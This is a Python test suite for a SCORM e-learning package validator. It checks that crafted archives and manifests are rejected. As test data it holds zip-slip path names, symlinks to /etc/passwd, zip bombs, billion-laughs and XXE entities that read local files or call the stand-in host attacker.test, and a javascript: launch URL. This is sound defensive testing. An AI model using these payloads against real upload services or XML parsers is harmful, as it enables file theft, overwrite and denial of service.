"""Hostile uploads: every validator rule (Z1-Z7, P1-P11) is tripped by a generated archive, and nothing
a hostile zip or manifest does (bombs, traversal, links, entities, outside references) gets past it.

`RULES` below has one generated archive per problem code the validator can emit; a test reads the codes
out of the `domain/scorm/` modules themselves, so a new rule without a hostile archive here fails that test.
"""

from __future__ import annotations

import io
import re
import socket
import tempfile
import urllib.request
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from zipfactory import IMSSS, STORED, RawEntry, build_zip, item, manifest, package, resource

import scormhub.domain.scorm as scorm_package
from scormhub.domain.scorm.archive import plan_extraction, validate_package
from scormhub.domain.scorm.package import PackageLimits, PackageReport
from scormhub.integrations.builtin_engine import BuiltinEngine, ExtractionError
from scormhub.integrations.storage import FilesystemPackageStorage

KB = 1024
MB = 1024 * KB
ERROR, WARNING = "error", "warning"
ATTACKER = "http://attacker.test"


def check(data: bytes, limits: PackageLimits | None = None) -> PackageReport:
    return validate_package(io.BytesIO(data), limits or PackageLimits())


def codes(report: PackageReport) -> set[str]:
    return {p.code for p in report.errors + report.warnings}


def with_manifest(**kwargs: str) -> bytes:
    return package(manifest(**kwargs))


def manifest_2004(**kwargs: str) -> str:
    return manifest("3rd", resources=resource(version="3rd", files=["index.html"]), **kwargs)


def replace_in_manifest(old: str, new: str, version: str = "1.2") -> bytes:
    text = manifest() if version == "1.2" else manifest_2004()
    assert old in text, old
    return package(text.replace(old, new, 1))


def nested_items(depth: int) -> str:
    inner = item(f"leaf{depth}")
    for level in range(depth - 1, 0, -1):
        inner = f'<item identifier="i{level}"><title>Level {level}</title>{inner}</item>'
    return inner


class ClosedUpload(io.BytesIO):
    def __init__(self) -> None:
        super().__init__(package(manifest()))
        self.close()


@dataclass(frozen=True)
class Hostile:
    """One generated archive and the verdict it must get: the code, as an error or a warning."""

    severity: str
    build: Callable[[], PackageReport]


def zip_case(severity: str, data: Callable[[], bytes], limits: PackageLimits | None = None) -> Hostile:
    return Hostile(severity, lambda: check(data(), limits))


# Every problem code of the domain/scorm/ validator, each with an archive built to trigger it.
RULES: dict[str, Hostile] = {
    # Z1: it must be a zip we can read.
    "Z1-unreadable": Hostile(ERROR, lambda: validate_package(ClosedUpload())),
    "Z1-empty": zip_case(ERROR, lambda: b""),
    "Z1-not-a-zip": zip_case(ERROR, lambda: b"PK\x03\x04" + bytes(200)),
    "Z1-encrypted": zip_case(
        ERROR,
        lambda: package(manifest(), extra=[RawEntry("answers.js", b"\x8f\x11", method=STORED, flags=1)]),
    ),
    "Z1-unsupported-compression": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("video.mp4", b"BZh91AY&SY", method=12)])
    ),
    "Z1-corrupt-entry": zip_case(
        ERROR, lambda: build_zip([RawEntry("imsmanifest.xml", manifest().encode(), crc=0xDEADBEEF)])
    ),
    # Z2: sizes, counts, ratios; all judged before anything is inflated past its declared size.
    "Z2-zip-too-large": zip_case(ERROR, lambda: package(manifest()), PackageLimits(max_compressed_bytes=256)),
    "Z2-too-many-files": zip_case(  # the real default limit, not a lowered one
        ERROR,
        lambda: package(manifest(), {f"f/{n}": b"" for n in range(PackageLimits().max_entries)}),
    ),
    "Z2-too-large-unpacked": zip_case(
        ERROR,
        lambda: package(
            manifest(), extra=[RawEntry("media/huge.bin", b"x", method=STORED, declared_size=3 << 30)]
        ),
    ),
    "Z2-compression-ratio": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("media/zeros.bin", bytes(16 * MB))])
    ),
    "Z2-overlapping-entries": zip_case(
        ERROR,
        lambda: build_zip(
            [
                RawEntry("imsmanifest.xml", manifest().encode()),
                RawEntry("index.html", b"<html>lesson</html>"),
                RawEntry("index2.html", b"<html>lesson</html>", same_data_as=1),
            ]
        ),
    ),
    "Z2-size-mismatch": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("poster.png", bytes(64 * KB), declared_size=10)])
    ),
    # Z3: names that escape the course folder or hide what they are.
    "Z3-parent-folder": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("../../../tmp/pwn", b"x")])
    ),
    "Z3-absolute-path": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("/etc/cron.d/pwn", b"x")])
    ),
    "Z3-drive-letter": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("C:\\Windows\\pwn.dll", b"x")])
    ),
    "Z3-network-path": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("\\\\host\\share\\pwn", b"x")])
    ),
    "Z3-control-character": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("index.html\x00.exe", b"x")])
    ),
    "Z3-backslash": zip_case(
        WARNING, lambda: package(manifest(), extra=[RawEntry("shared\\style.css", b"x")])
    ),
    # Z4: links and special files.
    "Z4-symlink": zip_case(
        ERROR,
        lambda: package(
            manifest(), extra=[RawEntry("shared/x", b"/etc/passwd", method=STORED, unix_mode=0o120777)]
        ),
    ),
    "Z4-special-file": zip_case(
        ERROR,
        lambda: package(manifest(), extra=[RawEntry("shared/dev", b"", method=STORED, unix_mode=0o020644)]),
    ),
    # Z5: names that collide.
    "Z5-duplicate-name": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("index.html", b"other")])
    ),
    "Z5-case-collision": zip_case(
        ERROR, lambda: package(manifest(), extra=[RawEntry("INDEX.html", b"other")])
    ),
    "Z5-file-folder-clash": zip_case(
        ERROR, lambda: package(manifest(), {"index.html": b"x", "shared": b"x", "shared/a.css": b"x"})
    ),
    # Z6: names in a legacy encoding.
    "Z6-name-encoding": zip_case(
        WARNING, lambda: package(manifest(), extra=[RawEntry(b"le\xe7on.html", b"x")])
    ),
    # P1: where the manifest is.
    "P1-manifest-name-case": zip_case(ERROR, lambda: package(manifest(), manifest_name="IMSManifest.xml")),
    "P1-manifest-in-folder": zip_case(
        WARNING,
        lambda: package(manifest(), {"course/index.html": b"x"}, manifest_name="course/imsmanifest.xml"),
    ),
    "P1-manifest-not-at-root": zip_case(
        ERROR, lambda: package(manifest(), {"a/b/index.html": b"x"}, manifest_name="a/b/imsmanifest.xml")
    ),
    # P2: not SCORM at all.
    "P2-no-manifest": zip_case(ERROR, lambda: package(None, {"index.html": b"x"})),
    "P2-cmi5-package": zip_case(ERROR, lambda: package(None, {"cmi5.xml": b"<courseStructure/>"})),
    "P2-xapi-package": zip_case(ERROR, lambda: package(None, {"tincan.xml": b"<tincan/>"})),
    "P2-aicc-package": zip_case(ERROR, lambda: package(None, {"course.crs": b"[Course]"})),
    # P3: reading the manifest safely.
    "P3-manifest-too-large": zip_case(
        ERROR,
        lambda: package(manifest().replace("<metadata>", "<!--" + "x" * 8 * KB + "--><metadata>")),
        PackageLimits(max_manifest_bytes=4 * KB),
    ),
    "P3-empty-manifest": zip_case(ERROR, lambda: package(b"  \n\t ")),
    "P3-manifest-encoding": zip_case(WARNING, lambda: package(manifest(title="Caf\xe9").encode("latin-1"))),
    "P3-bare-ampersand": zip_case(WARNING, lambda: with_manifest(title="Salt & Pepper")),
    "P3-xml-entities": zip_case(
        ERROR,
        lambda: package(
            '<?xml version="1.0"?>\n<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + manifest(title="&x;").split("?>", 1)[1]
        ),
    ),
    "P3-not-xml": zip_case(ERROR, lambda: package("<manifest><unclosed></manifest>")),
    # P4: the manifest's structure.
    "P4-not-a-manifest": zip_case(ERROR, lambda: package('<?xml version="1.0"?><html><body/></html>')),
    "P4-manifest-structure": zip_case(
        ERROR, lambda: replace_in_manifest("<resources>", "<resources></resources><resources>")
    ),
    "P4-missing-metadata": zip_case(
        ERROR,
        lambda: package(manifest_2004().split("<metadata>")[0] + manifest_2004().split("</metadata>")[1]),
    ),
    "P4-duplicate-identifier": zip_case(ERROR, lambda: with_manifest(items=item("dup") + item("dup"))),
    "P4-missing-identifier": zip_case(
        ERROR, lambda: with_manifest(items='<item identifierref="res1"><title>No id</title></item>')
    ),
    "P4-unresolved-reference": zip_case(ERROR, lambda: with_manifest(items=item(ref="nowhere"))),
    "P4-missing-title": zip_case(
        WARNING,
        lambda: replace_in_manifest(
            '<organization identifier="org1"><title>Golf basics</title>', '<organization identifier="org1">'
        ),
    ),
    "P4-missing-item-title": zip_case(
        WARNING, lambda: with_manifest(items='<item identifier="item1" identifierref="res1"></item>')
    ),
    "P4-item-without-resource": zip_case(
        WARNING, lambda: with_manifest(items=item() + item("empty", ref=None))
    ),
    "P4-parent-item-launches": zip_case(
        ERROR,
        lambda: package(manifest_2004(items=item("parent", inner=item("child")))),
    ),
    "P4-unresolved-sequencing-idref": zip_case(
        ERROR,
        lambda: package(manifest_2004(items=item(inner='<imsss:sequencing IDRef="nowhere"/>'))),
    ),
    "P4-outline-too-deep": zip_case(ERROR, lambda: with_manifest(items=nested_items(150))),
    # P5: the default organization.
    "P5-no-organization": zip_case(
        ERROR, lambda: with_manifest(organizations='<organizations default="org1"></organizations>')
    ),
    "P5-default-organization": zip_case(
        ERROR, lambda: replace_in_manifest('default="org1"', 'default="nope"', version="3rd")
    ),
    # P6: what the outline launches.
    "P6-no-visible-sco": zip_case(
        ERROR, lambda: with_manifest(items=item().replace("<item ", '<item isvisible="false" ', 1))
    ),
    "P6-asset-only": zip_case(WARNING, lambda: with_manifest(resources=resource(kind="asset"))),
    "P6-nothing-to-launch": zip_case(ERROR, lambda: with_manifest(items=item("only", ref=None))),
    "P6-scormtype-spelling": zip_case(
        WARNING, lambda: with_manifest(resources=resource(kind="SCO", files=["index.html"]))
    ),
    # P7: launch addresses the player must not or cannot open.
    "P7-external-launch": zip_case(
        ERROR, lambda: with_manifest(resources=resource(href=f"{ATTACKER}/x.html"))
    ),
    "P7-local-disk-path": zip_case(
        ERROR, lambda: with_manifest(resources=resource(href="file:///etc/passwd"))
    ),
    "P7-unsupported-address": zip_case(
        ERROR, lambda: with_manifest(resources=resource(href="javascript:alert(document.cookie)"))
    ),
    "P7-absolute-href": zip_case(ERROR, lambda: with_manifest(resources=resource(href="/app/settings"))),
    "P7-backslash-href": zip_case(
        WARNING,
        lambda: package(manifest(resources=resource(href="shared\\index.html")), {"shared/index.html": b"x"}),
    ),
    "P7-long-launch-url": zip_case(
        WARNING, lambda: with_manifest(resources=resource(href="index.html?" + "q=1&" * 600))
    ),
    "P7-xml-base-slash": zip_case(
        WARNING,
        lambda: package(
            manifest(resources=resource(attributes='xml:base="shared"')), {"shared/index.html": b"x"}
        ),
    ),
    # P8: the launch file itself.
    "P8-no-launch-file": zip_case(ERROR, lambda: with_manifest(resources=resource(href=None))),
    "P8-launch-outside-package": zip_case(
        ERROR, lambda: with_manifest(resources=resource(href="../../etc/passwd"))
    ),
    "P8-launch-file-missing": zip_case(ERROR, lambda: with_manifest(resources=resource(href="missing.html"))),
    "P8-launch-case-mismatch": zip_case(ERROR, lambda: with_manifest(resources=resource(href="INDEX.HTML"))),
    # P9: listed files.
    "P9-listed-file-missing": zip_case(
        WARNING, lambda: with_manifest(resources=resource(files=["index.html", "gone.js"]))
    ),
    # P10: versions and scores.
    "P10-unknown-schemaversion": zip_case(
        WARNING, lambda: with_manifest(metadata="<metadata><schemaversion>9.9</schemaversion></metadata>")
    ),
    "P10-out-of-range": zip_case(
        WARNING,
        lambda: with_manifest(
            items=item(
                inner='<adlcp:masteryscore xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">'
                "250</adlcp:masteryscore>"
            )
        ),
    ),
}


def emitted_codes() -> set[str]:
    # The validator's rules are spread over the modules of the scorm package.
    sources = (path.read_text() for path in Path(scorm_package.__file__).parent.glob("*.py"))
    return {code for source in sources for code in re.findall(r'"([ZP]\d+-[a-z0-9-]+)"', source)}


# --- every rule has its hostile archive ---------------------------------------------------------------


def test_every_problem_code_the_validator_can_emit_has_a_hostile_archive_here() -> None:
    missing = emitted_codes() - set(RULES)
    stale = set(RULES) - emitted_codes()

    assert not missing, f"add a hostile archive to RULES for {sorted(missing)}"
    assert not stale, f"RULES names codes the validator no longer emits: {sorted(stale)}"


def test_every_rule_family_from_z1_to_p10_is_exercised() -> None:
    families = {code.split("-", 1)[0] for code in RULES}

    # Z7 (junk files) has no code of its own: see the junk test below. P11 is deliberately not enforced.
    assert families | {"Z7"} == {f"Z{n}" for n in range(1, 8)} | {f"P{n}" for n in range(1, 11)}


@pytest.mark.parametrize("code", sorted(RULES))
def test_each_hostile_archive_gets_exactly_its_verdict(code: str) -> None:
    case = RULES[code]

    report = case.build()

    found = report.errors if case.severity == ERROR else report.warnings
    assert code in {p.code for p in found}, (code, codes(report))
    if case.severity == ERROR:
        assert not report.valid
    for problem in report.errors + report.warnings:
        assert problem.message
        assert "Traceback" not in problem.message
        # Names are shown quoted with control characters made visible, never raw.
        assert "\x00" not in problem.message


def test_junk_files_never_reach_the_extraction_plan_z7() -> None:
    junk = {"__MACOSX/._index.html": b"x", "shared/.DS_Store": b"x", "Thumbs.db": b"x", "index.html": b"x"}
    data = package(manifest(), junk)

    report = check(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        targets = [target for _, target in plan_extraction(zf, report)]

    assert report.valid, report.errors
    assert sorted(targets) == ["imsmanifest.xml", "index.html"]


def test_a_manifest_that_breaks_the_xsd_but_not_the_player_is_accepted_p11_is_not_enforced() -> None:
    # P11 is warning-only in the reference and deliberately not implemented (see domain/scorm/outline.py).
    extension = '<vendor:tracking xmlns:vendor="urn:vendor">on</vendor:tracking>'

    report = check(package(manifest().replace("</organizations>", f"</organizations>{extension}")))

    assert report.valid, report.errors


# --- bombs and nested zips ----------------------------------------------------------------------------


class CountingReader(io.BytesIO):
    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


@settings(max_examples=25, deadline=None)
@given(
    size_mb=st.integers(min_value=2, max_value=12),
    filler=st.sampled_from([b"\x00", b"A", b"ab"]),
    name=st.sampled_from(["media/zeros.bin", "index2.html", "deep/a/b/c/d.dat"]),
)
def test_a_generated_zip_bomb_is_refused_from_its_headers_alone(
    size_mb: int, filler: bytes, name: str
) -> None:
    bomb = RawEntry(name, filler * (size_mb * MB // len(filler)))
    data = package(manifest(), extra=[bomb])
    upload = CountingReader(data)

    report = validate_package(upload)

    assert "Z2-compression-ratio" in {p.code for p in report.errors}
    assert upload.bytes_read < 8 * KB, "decided from the central directory, nothing inflated"


def test_a_bomb_that_lies_about_its_size_is_stopped_after_one_chunk() -> None:
    # Declares 100 bytes (so the ratio rule can't see it) but inflates to 32 MB.
    liar = RawEntry("media/liar.bin", bytes(32 * MB), declared_size=100)
    upload = CountingReader(package(manifest(), extra=[liar]))

    report = validate_package(upload)

    assert "Z2-size-mismatch" in {p.code for p in report.errors}
    assert upload.bytes_read < 64 * KB


def test_a_nested_zip_bomb_is_stored_as_an_opaque_file_and_never_opened() -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.bin", bytes(64 * MB))  # 64 MB inside ~64 KB
    nested = RawEntry("media/bonus.zip", inner.getvalue(), method=STORED)
    data = package(manifest(), extra=[nested])
    upload = CountingReader(data)

    report = validate_package(upload)

    assert report.valid, report.errors
    assert upload.bytes_read < len(data) + 16 * KB, "the inner zip is read once, as bytes"
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        plan = {target: info.file_size for info, target in plan_extraction(zf, report)}
    assert plan["media/bonus.zip"] == len(inner.getvalue())


def test_a_zip_of_many_empty_entries_is_refused_by_count_before_any_entry_is_read() -> None:
    data = package(manifest(), {f"x/{n}.txt": b"" for n in range(PackageLimits().max_entries + 500)})
    upload = CountingReader(data)

    report = validate_package(upload)

    assert [p.code for p in report.errors] == ["Z2-too-many-files"]
    assert upload.bytes_read <= len(data)


# --- names: generated traversal attempts never escape ---------------------------------------------------

SEGMENTS = st.sampled_from(
    [
        "..",
        ".",
        "",
        "shared",
        "a",
        "C:",
        "c:",
        "\\\\srv",
        "%2e%2e",
        "..\\..",
        "\x00",
        "\x1b[31m",
        "\u202e",
        "ü",
        "~",
    ]
)
HOSTILE_NAMES = st.builds(
    lambda parts, lead: lead + "/".join(parts),
    st.lists(SEGMENTS, min_size=1, max_size=6),
    st.sampled_from(["", "/", "//", "\\", "C:/", "./"]),
)


@settings(max_examples=300, deadline=None)
@given(names=st.lists(HOSTILE_NAMES, min_size=1, max_size=4))
def test_no_generated_entry_name_can_place_a_file_outside_the_course_folder(names: list[str]) -> None:
    data = package(manifest(), extra=[RawEntry(name, b"pwned") for name in names])

    report = check(data)

    if not report.valid:
        return
    with tempfile.TemporaryDirectory() as folder:
        outside = Path(folder)
        course = outside / "course"
        course.mkdir()
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for _, target in plan_extraction(zf, report):
                assert not target.startswith(("/", "\\")), target
                assert ".." not in target.split("/"), target
                assert (course / target).resolve().is_relative_to(course.resolve()), target
        assert sorted(p.name for p in outside.iterdir()) == ["course"]


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_a_mutilated_package_gets_a_report_and_never_an_exception(data: st.DataObject) -> None:
    original = bytearray(package(manifest(), {"index.html": b"<html>lesson</html>", "a/b.css": b"x" * 300}))
    for _ in range(data.draw(st.integers(min_value=1, max_value=8))):
        position = data.draw(st.integers(min_value=0, max_value=len(original) - 1))
        original[position] = data.draw(st.integers(min_value=0, max_value=255))
    cut = data.draw(st.integers(min_value=0, max_value=len(original)))
    mutated = bytes(original[:cut]) if data.draw(st.booleans()) else bytes(original)

    report = check(mutated)

    assert isinstance(report, PackageReport)
    if report.valid:
        with zipfile.ZipFile(io.BytesIO(mutated)) as zf:
            for _, target in plan_extraction(zf, report):
                assert ".." not in target.split("/")
                assert not target.startswith("/")


def test_the_extractor_refuses_a_zip_swapped_after_validation(tmp_path: Path) -> None:
    # Defence in depth: validation said yes to one zip; a different (hostile) one must not be written.
    good = package(manifest())
    evil = package(manifest(), extra=[RawEntry("../../escaped.txt", b"x")])
    report = check(good)
    engine = BuiltinEngine(tmp_path / "content", FilesystemPackageStorage(tmp_path / "pkg"), PackageLimits())

    with zipfile.ZipFile(io.BytesIO(evil)) as zf, pytest.raises(ValueError, match="not the one"):
        plan_extraction(zf, report)
    root = tmp_path / "course"
    root.mkdir()
    with zipfile.ZipFile(io.BytesIO(evil)) as zf:
        info = zf.getinfo("../../escaped.txt")
        with pytest.raises(ExtractionError, match="outside the course folder"):
            engine._write_member(zf, info, root, "../../escaped.txt")
    assert not (tmp_path / "escaped.txt").exists()


# --- XML: entity expansion and outside references -----------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Record (and block) any attempt to reach the network while a manifest is parsed."""
    attempts: list[str] = []

    def refuse_connect(self: socket.socket, address: object) -> None:
        attempts.append(f"socket {address!r}")
        raise OSError("network disabled in this test")

    def refuse_urlopen(url: object, *args: object, **kwargs: object) -> None:
        attempts.append(f"urlopen {url!r}")
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse_connect)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: refuse_connect(None, address))  # type: ignore[arg-type, misc]
    monkeypatch.setattr(urllib.request, "urlopen", refuse_urlopen)
    return attempts


def with_doctype(doctype: str, *, title: str = "Golf basics") -> bytes:
    body = manifest(title=title).split("?>", 1)[1]
    return package(f'<?xml version="1.0"?>\n{doctype}{body}')


LAUGHS = "".join(
    f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(10)
)
HOSTILE_DOCTYPES = {
    "billion laughs": (f"<!DOCTYPE manifest [{LAUGHS}]>", "&l9;"),
    "quadratic blowup": (f'<!DOCTYPE manifest [<!ENTITY a "{"A" * 50_000}">]>', "&a;" * 5_000),
    "external file entity": ('<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "external http entity": (f'<!DOCTYPE manifest [<!ENTITY x SYSTEM "{ATTACKER}/steal">]>', "&x;"),
    "external parameter entity": (
        f'<!DOCTYPE manifest [<!ENTITY % p SYSTEM "{ATTACKER}/p.dtd"> %p;]>',
        "Golf",
    ),
    "public external entity": (
        f'<!DOCTYPE manifest [<!ENTITY x PUBLIC "-//A//B" "{ATTACKER}/x">]>',
        "&x;",
    ),
    "harmless looking internal entity": ('<!DOCTYPE manifest [<!ENTITY t "Golf">]>', "&t;"),
    "unparsed entity": (
        f'<!DOCTYPE manifest [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{ATTACKER}/u" NDATA n>]>',
        "Golf",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_DOCTYPES))
def test_entity_declarations_of_every_kind_are_refused_without_any_fetch(
    name: str, no_network: list[str]
) -> None:
    doctype, title = HOSTILE_DOCTYPES[name]

    report = check(with_doctype(doctype, title=title))

    assert not report.valid
    assert "P3-xml-entities" in {p.code for p in report.errors}
    assert no_network == []
    assert report.title is None


def test_an_external_http_entity_is_named_in_the_message(no_network: list[str]) -> None:
    doctype, title = HOSTILE_DOCTYPES["external http entity"]

    [problem] = check(with_doctype(doctype, title=title)).errors

    assert f"'{ATTACKER}/steal'" in problem.message
    assert no_network == []


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode("utf-16"),
        lambda text: text.replace('version="1.0"?>', 'version="1.0" encoding="UTF-7"?>').encode("utf-7"),
        lambda text: b"\xef\xbb\xbf" + text.encode(),
    ],
    ids=["utf-16", "utf-7", "utf-8 with BOM"],
)
def test_an_entity_declaration_smuggled_in_another_encoding_is_still_refused(
    encode: Callable[[str], bytes], no_network: list[str]
) -> None:
    body = manifest(title="&x;").split("?>", 1)[1]
    text = f'<?xml version="1.0"?>\n<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>{body}'

    report = check(package(encode(text)))

    assert not report.valid
    assert no_network == []
    assert "root:" not in str(report.to_json_dict())


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE manifest SYSTEM "{ATTACKER}/m.dtd">',
        f'<!DOCTYPE manifest PUBLIC "-//A//B" "{ATTACKER}/m.dtd">',
    ],
    ids=["system", "public"],
)
def test_an_external_dtd_reference_is_never_fetched(doctype: str, no_network: list[str]) -> None:
    report = check(with_doctype(doctype))

    # Without entity declarations the DTD adds nothing; it is ignored, never downloaded.
    assert no_network == []
    assert report.title in (None, "Golf basics")


def test_xinclude_is_not_processed(no_network: list[str]) -> None:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )
    text = manifest().replace("<title>Golf basics</title>", f"<title>Golf basics{include}</title>")

    report = check(package(text))

    assert no_network == []
    assert report.title == "Golf basics"
    assert "root:" not in str(report.to_json_dict())


ENTITY_PIECES = st.sampled_from(
    [
        '<!ENTITY a "x">',
        '<!ENTITY % p "y">',
        f'<!ENTITY e SYSTEM "{ATTACKER}/e">',
        '<!ENTITY f SYSTEM "file:///etc/shadow">',
        '<!ENTITY g PUBLIC "-//X//Y" "ftp://attacker.test/g">',
        '<!ENTITY h SYSTEM "php://filter/resource=/etc/passwd">',
        '<!ENTITY i SYSTEM "jar:file:///tmp/x.zip!/a">',
        '<!ENTITY j "&a;&a;&a;">',
        "<!ELEMENT manifest ANY>",
        '<!ATTLIST manifest identifier CDATA "x">',
        "<!-- comment -->",
    ]
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(ENTITY_PIECES, min_size=1, max_size=6), use=st.sampled_from(["", "&a;", "&e;", "&f;"]))
def test_any_generated_internal_subset_with_an_entity_is_refused_and_fetches_nothing(
    pieces: list[str], use: str, no_network: list[str]
) -> None:
    assume(any("<!ENTITY" in piece for piece in pieces))
    doctype = f"<!DOCTYPE manifest [{''.join(pieces)}]>"

    report = check(with_doctype(doctype, title=f"Golf{use}"))

    assert not report.valid
    assert {p.code for p in report.errors} & {"P3-xml-entities", "P3-not-xml"}
    assert no_network == []


def test_a_deeply_nested_manifest_is_read_without_recursion_errors() -> None:
    deep = "<x>" * 50_000 + "</x>" * 50_000
    text = manifest().replace("<metadata>", f"<metadata>{deep}", 1)

    report = check(package(text))

    assert report.valid, report.errors


def test_an_outline_nested_past_the_limit_stops_at_the_limit_without_recursing() -> None:
    report = check(with_manifest(items=nested_items(5_000)))

    assert "P4-outline-too-deep" in {p.code for p in report.errors}


def test_a_sequencing_reference_to_itself_is_reported_and_neither_loops_nor_crashes() -> None:
    sequencing = f'<imsss:sequencing xmlns:imsss="{IMSSS}" IDRef="loop"/>'
    collection = (
        f'<imsss:sequencingCollection xmlns:imsss="{IMSSS}">'
        '<imsss:sequencing ID="loop" IDRef="loop"/></imsss:sequencingCollection>'
    )
    text = manifest_2004(items=item(inner=sequencing)).replace("</manifest>", f"{collection}</manifest>")

    report = check(package(text))

    assert [p.code for p in report.errors] == ["S2-idref-cycle"], "a clear error, not a hang"
    assert report.mastery_score is None
